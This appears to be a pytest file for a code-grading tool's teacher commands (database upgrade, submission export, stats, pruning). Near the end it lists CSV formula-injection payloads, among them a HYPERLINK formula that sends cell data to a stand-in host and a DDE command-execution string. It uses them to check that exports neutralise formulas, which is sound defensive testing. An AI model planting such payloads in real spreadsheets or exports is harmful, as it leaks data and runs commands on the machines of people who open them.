"""The teachers' commands over a real SQLite record: `judge db upgrade`, `judge submissions export | stats |
prune`."""

from __future__ import annotations

import csv
import dataclasses
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from mljudge.cli import main
from mljudge.store import Store
from tests.store.test_store import T0, record


@pytest.fixture
def filled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.setenv("JUDGE_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.delenv("JUDGE_DATABASE_URL", raising=False)
    assert main(["db", "upgrade"]) == 0  # creates and migrates the default SQLite file
    store = Store.open(f"sqlite:///{tmp_path / 'var' / 'mljudge.sqlite3'}")
    for made in (record(minutes=1, mistakes=("no_cubic",)), record(minutes=2, verdict="accepted", passed=6),
                 record("bob", minutes=3, mistakes=("no_cubic",)), record("bob", exercise="relu", minutes=4),
                 dataclasses.replace(record("cy"), created_at=datetime.now(UTC) - timedelta(days=400))):
        store.add(made)
    return store


def test_db_upgrade_says_where_and_which_revision(filled: Store, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["db", "upgrade"]) == 0
    assert "mljudge.sqlite3: schema revision 0003 (the newest)" in capsys.readouterr().out


def test_export_as_csv_json_and_best(filled: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "gelu.csv"
    assert main(["submissions", "export", "--exercise", "gelu", "--since", T0.date().isoformat(), "--csv",
                 str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["learner"], r["verdict"], r["mistakes"]) for r in rows] == [
        ("ann", "wrong_answer", "no_cubic"), ("ann", "accepted", ""), ("bob", "wrong_answer", "no_cubic")]
    assert rows[0]["code"] == "# ann\n"
    capsys.readouterr()
    assert main(["submissions", "export", "--json", "--best"]) == 0
    best = json.loads(capsys.readouterr().out)
    assert [(b["learner"], b["exercise"], b["verdict"]) for b in best] == [
        ("ann", "gelu", "accepted"), ("bob", "gelu", "wrong_answer"), ("cy", "gelu", "wrong_answer"),
        ("bob", "relu", "wrong_answer")]
    assert best[0]["report"] == {"verdict": "accepted", "mistakes": []}


def test_stats_and_prune(filled: Store, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["submissions", "stats", "--json"]) == 0
    stats = {s["exercise"]: s for s in json.loads(capsys.readouterr().out)}
    assert (stats["gelu"]["learners"], stats["gelu"]["attempts"], stats["gelu"]["solved"]) == (3, 4, 1)
    assert stats["gelu"]["mistakes"] == [{"mistake": "no_cubic", "submissions": 2}]
    assert main(["submissions", "stats"]) == 0
    table = capsys.readouterr().out
    assert "gelu" in table and "no_cubic ×2" in table and "33%" in table
    # The records above were made at T0 (months ago), one of them 400 days ago.
    age = f"{(datetime.now(UTC) - T0).days + 30}d"
    assert main(["submissions", "prune", "--older-than", age]) == 0
    assert f"1 submission(s) older than {age} deleted" in capsys.readouterr().out
    assert filled.count() == 4


# What a spreadsheet would evaluate (OWASP's CSV injection list), and a cell that hides one behind a separator.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "x,=1+1;=2\t=3\n=4", "\"=1+1\"", "'=already quoted"]


def test_an_export_opens_in_a_spreadsheet_as_data_and_the_json_stays_exact(
        filled: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Learner code and learner names that a spreadsheet would run as formulas: no cell of the CSV starts like one
    (not even one hidden behind a separator or a line break: every cell is quoted), and the JSON export keeps them
    exactly."""
    made = [dataclasses.replace(record(learner=text, minutes=10 + i), code=text, exercise="hostile")
            for i, text in enumerate(HOSTILE)]
    for one in made:
        filled.add(one)
    out = tmp_path / "hostile.csv"
    assert main(["submissions", "export", "--exercise", "hostile", "--csv", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    assert not [cell for row in rows for cell in [*row, *row.values()] if cell.startswith(FORMULA_STARTS)]
    assert [(r["learner"], r["code"]) for r in rows] == [
        ("'" + t if t.startswith(FORMULA_STARTS) else t,) * 2 for t in HOSTILE]
    capsys.readouterr()
    assert main(["submissions", "export", "--exercise", "hostile", "--json"]) == 0
    exported = json.loads(capsys.readouterr().out)
    assert [(e["learner"], e["code"]) for e in exported] == [(t, t) for t in HOSTILE]


@pytest.mark.parametrize("args", [["submissions", "prune", "--older-than", "half a year"],
                                  ["submissions", "export", "--since", "yesterday"]])
def test_bad_input_is_one_line(filled: Store, args: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith("judge: error: ") and err.count("\n") == 1
